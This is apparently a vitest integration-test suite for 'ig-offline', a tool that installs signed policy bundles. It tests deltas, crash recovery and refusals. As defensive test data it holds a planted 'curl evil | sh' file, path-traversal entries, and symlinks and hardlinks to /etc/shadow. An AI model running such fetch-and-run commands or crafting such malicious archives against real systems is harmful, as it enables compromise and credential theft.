import { mkdtemp, readFile, readlink, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyBundle, APPLY_STEPS, type ApplyStep } from '../../src/bundles/apply.js';
import { buildDelta, buildFull } from '../../src/bundles/build.js';
import { exists } from '../../src/bundles/fsutil.js';
import { SITE_APPLY_KIND, type ApplyRecord } from '../../src/bundles/site-ledger.js';
import { verifyInstalled } from '../../src/bundles/verify-installed.js';
import { KeyPairSigner } from '../../src/signing/key-signer.js';
import { generateKeyPair } from '../../src/signing/keys.js';
import { fileHeader, jsonLines, offline, rewriteBundle, treeFingerprint, writeTree, type RawEntry, type Run } from '../helpers/bundles.js';

/**
 * ig-offline end to end, through the real CLI process: installs, deltas, every refusal (with the
 * installed tree hashed before and after), crashes injected at each step of an apply, and the
 * clean-room comparison of a delta-applied tree with a full build.
 */

/** Each test spawns real CLI processes (tsx start-up included): generous on a loaded CI machine. */
const CLI_TIMEOUT = 240_000;

let dir: string;
let key: string;
let pub: string;
let otherPub: string;
let pubPem: Buffer;
let signer: KeyPairSigner;
const B: Record<string, string> = {};
const SRC: Record<string, string> = {};

const V14 = {
  'policies/access.rego': 'package access\nallow := false\n',
  'policies/export.rego': 'package export\ndeny := true\n',
  'dashboards/overview.json': '{"panels":[1,2]}\n',
  'fixtures/old.csv': 'id,name\n1,old\n',
};
const V15 = {
  'policies/access.rego': V14['policies/access.rego'],
  'policies/export.rego': 'package export\ndeny := false\n',
  'dashboards/overview.json': V14['dashboards/overview.json'],
  'dashboards/new.json': '{"panels":[3]}\n',
};
const V16 = { ...V15, 'fixtures/new.csv': 'id\n2\n' };

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ig-offline-it-'));
  const k = await generateKeyPair(join(dir, 'release'));
  const o = await generateKeyPair(join(dir, 'other'));
  key = k.privateKeyPath;
  pub = k.publicKeyPath;
  otherPub = o.publicKeyPath;
  pubPem = await readFile(pub);
  signer = await KeyPairSigner.fromFile(key);
  const trees: Record<string, Record<string, string>> = {
    v13: { 'a.txt': 'old\n' },
    v14: V14,
    v14b: { ...V14, 'fixtures/old.csv': 'id,name\n1,other\n' },
    v15: V15,
    v16: V16,
  };
  for (const [name, files] of Object.entries(trees)) {
    const path = join(dir, 'src', name);
    SRC[name] = path;
    await writeTree(path, files);
  }
  const b = (n: string) => (B[n] = join(dir, `${n}.tgz`));
  await buildFull({ version: 'v1.4', sourceDir: SRC.v14!, out: b('full14'), signer });
  await buildFull({ version: 'v1.4', sourceDir: SRC.v14b!, out: b('full14b'), signer });
  await buildFull({ version: 'v1.3', sourceDir: SRC.v13!, out: b('full13'), signer, sequence: 1 });
  await buildFull({ version: 'v1.5', sourceDir: SRC.v15!, out: b('full15'), signer, sequence: 2 });
  await buildDelta({ baseBundle: B.full14!, sourceDir: SRC.v15!, version: 'v1.5', out: b('delta15'), signer });
  await buildDelta({ baseBundle: B.full14!, sourceDir: SRC.v15!, version: 'v1.5', out: b('delta15unsigned'), signer: null });
  await buildDelta({ baseBundle: B.full14b!, sourceDir: SRC.v15!, version: 'v1.5', out: b('delta15b'), signer });
  await buildDelta({ baseBundle: B.delta15!, sourceDir: SRC.v16!, version: 'v1.6', out: b('delta16'), signer });
}, 60_000);
afterAll(() => rm(dir, { recursive: true, force: true }));

let targets = 0;
/** A fresh target with the given bundles applied in order (in-process, to keep setup fast). */
async function target(...steps: [bundle: string, to: string, from: string | null][]): Promise<string> {
  const t = join(dir, `target-${++targets}`);
  for (const [bundle, to, from] of steps) {
    await applyBundle({ bundle: B[bundle]!, target: t, to, from, requireSignature: true, publicKeyPem: pubPem, site: 'bc-1' });
  }
  return t;
}
const at14 = () => target(['full14', 'v1.4', null]);

async function ledger(t: string): Promise<(ApplyRecord & { seq: number })[]> {
  const entries = await jsonLines<{ seq: number; kind: string; payload: ApplyRecord }>(join(t, 'ledger.jsonl'));
  return entries.filter((e) => e.kind === SITE_APPLY_KIND).map((e) => ({ ...e.payload, seq: e.seq }));
}

const applyArgs = (t: string, bundle: string, to: string, from: string | null, extra: string[] = []) => [
  'apply',
  ...(from ? ['--from', from] : []),
  '--to',
  to,
  '--bundle',
  bundle,
  '--verify',
  '--target',
  t,
  '--key',
  pub,
  '--site',
  'bc-1',
  ...extra,
];

/** A refusal: non-zero exit and exactly one line naming the check. */
function expectRefused(r: Run, check: string): void {
  expect(r.code, r.stdout + r.stderr).not.toBe(0);
  const lines = r.stderr.trimEnd().split('\n');
  expect(lines, r.stderr).toHaveLength(1);
  expect(lines[0]).toMatch(new RegExp(`^ig-offline: ${check}: `));
}

describe('#ig-offline apply of a full bundle', { timeout: CLI_TIMEOUT }, () => {
  it('installs into an empty target, verified, logged and ledgered', async () => {
    const t = join(dir, 'fresh-full');
    const r = await offline([...applyArgs(t, B.full14!, 'v1.4', null), '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({
      ok: true,
      status: 'applied',
      kind: 'full',
      fromVersion: null,
      toVersion: 'v1.4',
      sequence: 1,
      written: 4,
      signatureVerified: true,
      ledgerSeq: 1,
    });
    expect(await readlink(join(t, 'current'))).toBe('releases/v1.4');
    expect(await treeFingerprint(join(t, 'current', 'tree'))).toEqual(await treeFingerprint(SRC.v14!));
    expect((await jsonLines<{ event: string }>(join(t, 'logs', 'apply.log'))).map((e) => e.event)).toEqual([
      'verified',
      'switched',
      'applied',
    ]);
    expect(await ledger(t)).toMatchObject([
      { seq: 1, status: 'applied', bundleKind: 'full', fromVersion: null, toVersion: 'v1.4', sequence: 1 },
    ]);
    const v = await offline(['verify', '--target', t, '--key', pub]);
    expect(v.code, v.stderr).toBe(0);
    expect(v.stdout).toMatch(/^ok: v1\.4 \(sequence 1\), 4 files match manifest [0-9a-f]{64}, signature verified\n$/);
  });

  it('takes the target, key and signature requirement from a config file, and no flag waives it', async () => {
    const t = join(dir, 'from-config');
    const config = join(dir, 'site.json');
    await writeFile(config, JSON.stringify({ target: t, publicKey: pub, requireSignature: true, site: 'bc-cfg' }));
    const unsigned = await offline(['apply', '--from', 'v1.4', '--to', 'v1.5', '--bundle', B.delta15unsigned!, '--config', config]);
    expectRefused(unsigned, 'UNSIGNED');
    const ok = await offline(['apply', '--to', 'v1.4', '--bundle', B.full14!, '--config', config]);
    expect(ok.code, ok.stderr).toBe(0);
    expect((await ledger(t)).at(-1)).toMatchObject({ site: 'bc-cfg', status: 'applied' });
    const before = await treeFingerprint(t);
    expectRefused(
      await offline(['apply', '--from', 'v1.4', '--to', 'v1.5', '--bundle', B.delta15unsigned!, '--config', config]),
      'UNSIGNED',
    );
    expect(await treeFingerprint(t)).toEqual(before);
  });

  it('applies an unsigned bundle only where neither flags nor config require a signature, and says so', async () => {
    const t = await at14();
    const r = await offline(['apply', '--from', 'v1.4', '--to', 'v1.5', '--bundle', B.delta15unsigned!, '--target', t, '--site', 'bc-1']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toBe(
      'ig-offline: warning: the signature was not verified (no --verify or --key, and the config does not require it)\n',
    );
    expect((await ledger(t)).at(-1)).toMatchObject({ status: 'applied', toVersion: 'v1.5' });
  });
});

describe('#ig-offline delta', { timeout: CLI_TIMEOUT }, () => {
  it('applies only what changed, carries the rest over, and removes what v1.5 drops; progress on stderr', async () => {
    const t = await at14();
    const r = await offline([...applyArgs(t, B.delta15!, 'v1.5', 'v1.4'), '--progress']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('applied v1.5 (delta from v1.4, sequence 2): 2 files written, 2 carried over, 1 removed; ledger seq 2\n');
    expect(r.stderr).toContain('ig-offline apply: verify: reading bundle\n');
    expect(r.stderr).toContain('ig-offline apply: stage: writing files done, 2/2 files');
    expect(await treeFingerprint(join(t, 'current', 'tree'))).toEqual(await treeFingerprint(SRC.v15!));
    expect(await ledger(t)).toMatchObject([
      { seq: 1, toVersion: 'v1.4' },
      { seq: 2, status: 'applied', bundleKind: 'delta', fromVersion: 'v1.4', toVersion: 'v1.5', sequence: 2 },
    ]);
    // The previous release stays for forensics; nothing else is left behind.
    expect(await exists(join(t, 'releases', 'v1.4'))).toBe(true);
    expect(await exists(join(t, 'staging'))).toBe(false);
  });

  it('makes an empty but signed delta of two identical trees, which applies', async () => {
    const out = join(dir, 'empty-delta.tgz');
    const built = await offline([
      'delta',
      '--from-bundle',
      B.full14!,
      '--to-dir',
      SRC.v14!,
      '--to',
      'v1.4.1',
      '--out',
      out,
      '--key',
      key,
      '--json',
    ]);
    expect(built.code, built.stderr).toBe(0);
    expect(JSON.parse(built.stdout)).toMatchObject({ kind: 'delta', included: 0, removed: 0, fileCount: 4, signed: true, sequence: 2 });
    const t = await at14();
    const r = await offline(applyArgs(t, out, 'v1.4.1', 'v1.4'));
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^applied v1\.4\.1 \(delta from v1\.4, sequence 2\): 0 files written, 4 carried over, 0 removed/);
    expect(await treeFingerprint(join(t, 'current', 'tree'))).toEqual(await treeFingerprint(SRC.v14!));
  });
});

describe('#clean-room check', { timeout: CLI_TIMEOUT }, () => {
  it('v1.4 full + the v1.5 delta, in a fresh directory, equals a full v1.5 build: trees and manifests', async () => {
    const room = join(dir, 'clean-room');
    const cli = async (args: string[]) => {
      const r = await offline(args);
      expect(r.code, r.stderr).toBe(0);
    };
    await cli(['build', '--version', 'v1.4', '--from', SRC.v14!, '--out', join(room, '..', 'cr-14.tgz'), '--key', key]);
    await cli([
      'delta',
      '--from-bundle',
      join(room, '..', 'cr-14.tgz'),
      '--to-dir',
      SRC.v15!,
      '--to',
      'v1.5',
      '--out',
      join(room, '..', 'cr-15d.tgz'),
      '--key',
      key,
    ]);
    await cli(['build', '--version', 'v1.5', '--sequence', '2', '--from', SRC.v15!, '--out', join(room, '..', 'cr-15f.tgz'), '--key', key]);
    const viaDelta = join(room, 'via-delta');
    const viaFull = join(room, 'via-full');
    await cli(applyArgs(viaDelta, join(room, '..', 'cr-14.tgz'), 'v1.4', null));
    await cli(applyArgs(viaDelta, join(room, '..', 'cr-15d.tgz'), 'v1.5', 'v1.4'));
    await cli(applyArgs(viaFull, join(room, '..', 'cr-15f.tgz'), 'v1.5', null));
    for (const t of [viaDelta, viaFull]) await cli(['verify', '--target', t, '--key', pub]);
    const release = (t: string) => join(t, 'releases', 'v1.5');
    expect(await treeFingerprint(join(release(viaDelta), 'tree'))).toEqual(await treeFingerprint(join(release(viaFull), 'tree')));
    expect(await readFile(join(release(viaDelta), 'manifest.json'))).toEqual(await readFile(join(release(viaFull), 'manifest.json')));
    expect(await treeFingerprint(join(release(viaDelta), 'tree'))).toEqual(await treeFingerprint(SRC.v15!));
  });

  it('ig-offline verify reports a tampered, missing or extra installed file', async () => {
    const t = await at14();
    const tree = join(t, 'current', 'tree');
    await writeFile(join(tree, 'policies/access.rego'), 'package access\nallow := true\n');
    await rm(join(tree, 'fixtures/old.csv'));
    await writeFile(join(tree, 'planted.sh'), 'curl evil | sh\n');
    const r = await offline(['verify', '--target', t, '--json']);
    expectRefused(r, 'VERIFY');
    const report = JSON.parse(r.stdout) as { ok: boolean; problems: string[] };
    expect(report.ok).toBe(false);
    expect(report.problems).toEqual([
      expect.stringMatching(/^planted\.sh: not in the manifest/),
      expect.stringMatching(/^policies\/access\.rego: sha256 /),
      'fixtures/old.csv: missing',
    ]);
  });
});

describe.concurrent('#refusals leave the installed tree byte-identical', { timeout: CLI_TIMEOUT }, () => {
  const edit = async (name: string, fn: (entries: RawEntry[]) => RawEntry[], base = 'delta15') => {
    const out = join(dir, `hostile-${name}.tgz`);
    await rewriteBundle(B[base]!, out, fn);
    return out;
  };
  const replaceBody = (entries: RawEntry[], name: string, body: (old: Buffer) => Buffer) =>
    entries.map((e) => (e.header.name === name ? { header: e.header, body: body(e.body) } : e));
  const withEntry = (entry: RawEntry) => (entries: RawEntry[]) => [...entries, entry];

  const cases: [string, string, () => Promise<{ bundle: string; t: string; to?: string; from?: string | null; extra?: string[] }>][] = [
    [
      'a tampered file',
      'DIGEST',
      async () => ({
        t: await at14(),
        bundle: await edit('tampered', (es) =>
          replaceBody(es, 'files/policies/export.rego', () => Buffer.from('package export\ndeny := "maybe"\n')),
        ),
      }),
    ],
    [
      'an extra file',
      'EXTRA_FILE',
      async () => ({
        t: await at14(),
        bundle: await edit(
          'extra',
          withEntry({ header: fileHeader('files/policies/backdoor.rego'), body: Buffer.from('allow := true\n') }),
        ),
      }),
    ],
    [
      'a missing file',
      'MISSING_FILE',
      async () => ({
        t: await at14(),
        bundle: await edit('missing', (es) => es.filter((e) => e.header.name !== 'files/dashboards/new.json')),
      }),
    ],
    ['a signature by another key', 'SIGNATURE', async () => ({ t: await at14(), bundle: B.delta15!, extra: ['--key', otherPub] })],
    ['no signature', 'UNSIGNED', async () => ({ t: await at14(), bundle: B.delta15unsigned! })],
    [
      'a stripped signature (envelope without signatures)',
      'SIGNATURE',
      async () => ({
        t: await at14(),
        bundle: await edit('stripped', (es) =>
          replaceBody(es, 'manifest.sigstore.json', (old) => {
            const json = JSON.parse(old.toString()) as { dsseEnvelope: { signatures: unknown[] } };
            json.dsseEnvelope.signatures = [];
            return Buffer.from(JSON.stringify(json));
          }),
        ),
      }),
    ],
    [
      'a manifest changed after signing',
      'SIGNATURE',
      async () => ({
        t: await at14(),
        bundle: await edit('manifest', (es) =>
          replaceBody(es, 'manifest.json', (old) => Buffer.from(old.toString().replace('"sequence":2', '"sequence":7'))),
        ),
      }),
    ],
    ['a delta from another v1.4 (wrong base)', 'BASE', async () => ({ t: await at14(), bundle: B.delta15b! })],
    [
      'a delta onto an empty target',
      'BASE',
      async () => ({ t: join(dir, `empty-${Math.random().toString(36).slice(2)}`), bundle: B.delta15! }),
    ],
    ['--from that is not the delta’s base', 'VERSION', async () => ({ t: await at14(), bundle: B.delta15!, from: 'v1.3' })],
    ['--to that is not the bundle’s version', 'VERSION', async () => ({ t: await at14(), bundle: B.delta15!, to: 'v1.6' })],
    [
      'a replayed delta after a newer one',
      'SEQUENCE',
      async () => ({
        t: await target(['full14', 'v1.4', null], ['delta15', 'v1.5', 'v1.4'], ['delta16', 'v1.6', 'v1.5']),
        bundle: B.delta15!,
      }),
    ],
    [
      'a replayed full bundle (rollback to v1.4)',
      'SEQUENCE',
      async () => ({ t: await target(['full14', 'v1.4', null], ['delta15', 'v1.5', 'v1.4']), bundle: B.full14!, to: 'v1.4', from: null }),
    ],
    [
      'an older sequence',
      'SEQUENCE',
      async () => ({ t: await target(['full15', 'v1.5', null]), bundle: B.full13!, to: 'v1.3', from: null }),
    ],
    [
      'a traversal path',
      'PATH',
      async () => ({
        t: await at14(),
        bundle: await edit('traversal', withEntry({ header: fileHeader('files/../../../escaped.txt'), body: Buffer.from('x') })),
      }),
    ],
    [
      'an absolute path',
      'PATH',
      async () => ({
        t: await at14(),
        bundle: await edit('absolute', withEntry({ header: fileHeader(join(dir, 'absolute.txt')), body: Buffer.from('x') })),
      }),
    ],
    [
      'a symbolic link',
      'LINK',
      async () => ({
        t: await at14(),
        bundle: await edit(
          'symlink',
          withEntry({ header: fileHeader('files/policies/link', { type: 'symlink', linkname: '/etc/shadow' }), body: Buffer.alloc(0) }),
        ),
      }),
    ],
    [
      'a hard link',
      'LINK',
      async () => ({
        t: await at14(),
        bundle: await edit(
          'hardlink',
          withEntry({ header: fileHeader('files/policies/hl', { type: 'link', linkname: '/etc/shadow' }), body: Buffer.alloc(0) }),
        ),
      }),
    ],
    [
      'a device file',
      'SPECIAL_FILE',
      async () => ({
        t: await at14(),
        bundle: await edit(
          'device',
          withEntry({ header: fileHeader('files/dev', { type: 'character-device', devmajor: 1, devminor: 3 }), body: Buffer.alloc(0) }),
        ),
      }),
    ],
    [
      'a duplicate entry',
      'DUPLICATE',
      async () => ({
        t: await at14(),
        bundle: await edit(
          'duplicate',
          withEntry({ header: fileHeader('files/dashboards/new.json'), body: Buffer.from('{"panels":[3]}\n') }),
        ),
      }),
    ],
    ['a file over the per-file cap', 'TOO_LARGE', async () => ({ t: await at14(), bundle: B.delta15!, extra: ['--max-file-bytes', '20'] })],
    [
      'more bytes than the total cap',
      'TOO_LARGE',
      async () => ({ t: await at14(), bundle: B.delta15!, extra: ['--max-total-bytes', '40'] }),
    ],
    ['more files than the entry cap', 'TOO_LARGE', async () => ({ t: await at14(), bundle: B.delta15!, extra: ['--max-entries', '1'] })],
  ];

  it.each(cases)('refuses %s (%s)', async (_name, check, setup) => {
    const { bundle, t, to = 'v1.5', from = 'v1.4', extra = [] } = await setup();
    const before = await treeFingerprint(t);
    const ledgerBefore = await ledger(t);
    const r = await offline(applyArgs(t, bundle, to, from, extra));
    expectRefused(r, check);
    expect(await treeFingerprint(t)).toEqual(before);
    // The refusal is evidence too: one `rejected` entry naming the check, and a log line.
    const after = await ledger(t);
    expect(after.slice(0, ledgerBefore.length)).toEqual(ledgerBefore);
    expect(after.slice(ledgerBefore.length)).toMatchObject([{ status: 'rejected', check }]);
    expect((await jsonLines<{ event: string; check?: string }>(join(t, 'logs', 'apply.log'))).at(-1)).toMatchObject({
      event: 'rejected',
      check,
    });
    if (check === 'PATH') expect(await exists(join(dir, '..', 'escaped.txt'))).toBe(false);
  });

  it('refuses while another live apply holds the target, and takes over the lock of a dead one', async () => {
    const t = await at14();
    // The test runner itself stands in for a live apply.
    await writeFile(join(t, '.lock'), `${process.pid}\n`);
    const before = await treeFingerprint(t, ['logs']);
    expectRefused(await offline(applyArgs(t, B.delta15!, 'v1.5', 'v1.4')), 'LOCKED');
    expect(await treeFingerprint(t, ['logs'])).toEqual(before);
    await writeFile(join(t, '.lock'), '2147483646\n');
    const r = await offline(applyArgs(t, B.delta15!, 'v1.5', 'v1.4'));
    expect(r.code, r.stderr).toBe(0);
    expect(await exists(join(t, '.lock'))).toBe(false);
  });

  it('answers --json with the failed check on stdout', async () => {
    const t = await at14();
    const r = await offline([...applyArgs(t, B.delta15!, 'v1.5', 'v1.4', ['--key', otherPub]), '--json']);
    expect(r.code).not.toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ ok: false, check: 'SIGNATURE' });
  });
});

describe('#crash at each step of apply', { timeout: CLI_TIMEOUT }, () => {
  // Steps up to the rename of `current` leave v1.4; the rename and later leave v1.5.
  const expected = (step: ApplyStep) => (APPLY_STEPS.indexOf(step) < APPLY_STEPS.indexOf('switched') ? 'v1.4' : 'v1.5');

  it.concurrent.each(APPLY_STEPS.map((s) => [s, expected(s)] as const))(
    'a SIGKILL after %s leaves exactly %s, and the rerun converges to v1.5 once',
    async (step, left) => {
      const t = await at14();
      const crashed = await offline(applyArgs(t, B.delta15!, 'v1.5', 'v1.4'), { IG_OFFLINE_CRASH_AT: step });
      expect(crashed.signal, crashed.stderr).toBe('SIGKILL');
      expect(await readlink(join(t, 'current'))).toBe(`releases/${left}`);
      expect(await treeFingerprint(join(t, 'current', 'tree'))).toEqual(await treeFingerprint(left === 'v1.4' ? SRC.v14! : SRC.v15!));
      expect((await verifyInstalled(t)).ok).toBe(true);

      const rerun = await offline([...applyArgs(t, B.delta15!, 'v1.5', 'v1.4'), '--json']);
      expect(rerun.code, rerun.stderr).toBe(0);
      const status = (JSON.parse(rerun.stdout) as { status: string }).status;
      expect(status).toBe(left === 'v1.4' ? 'applied' : step === 'switched' ? 'completed' : 'already-applied');
      expect(await readlink(join(t, 'current'))).toBe('releases/v1.5');
      expect(await treeFingerprint(join(t, 'current', 'tree'))).toEqual(await treeFingerprint(SRC.v15!));
      expect((await verifyInstalled(t, { publicKeyPem: pubPem })).ok).toBe(true);
      expect((await ledger(t)).filter((e) => e.status === 'applied' && e.toVersion === 'v1.5')).toMatchObject([
        { bundleKind: 'delta', fromVersion: 'v1.4', sequence: 2 },
      ]);
      expect(await exists(join(t, 'staging'))).toBe(false);

      // And once more: a no-op that changes nothing at all.
      const before = await treeFingerprint(t, []);
      const again = await offline([...applyArgs(t, B.delta15!, 'v1.5', 'v1.4'), '--json']);
      expect(JSON.parse(again.stdout)).toMatchObject({ status: 'already-applied' });
      expect(await treeFingerprint(t, ['logs'])).toEqual(before.filter((l) => !l.startsWith('logs')));
    },
  );
});
